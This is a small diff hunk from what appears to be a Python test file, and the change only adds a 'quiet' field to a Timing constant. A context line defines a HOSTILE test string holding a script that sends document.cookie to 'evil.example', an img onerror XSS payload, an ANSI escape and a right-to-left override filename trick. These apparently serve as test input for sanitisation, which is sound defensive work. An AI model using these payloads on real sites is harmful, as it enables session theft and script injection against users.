@@ -49,7 +49,7 @@ NOW = 1_790_000_000.0
 HOSTILE = (
     "<script>fetch('//evil.example/'+document.cookie)</script> \x1b[31mred \u202etxt.exe <img src=x onerror=alert(1)>"
 )
-TIMING = Timing(grace=0.0, settle=0.0, settle_max=0.0)
+TIMING = Timing(grace=0.0, settle=0.0, settle_max=0.0, quiet=0.0)
 
 
 @dataclass
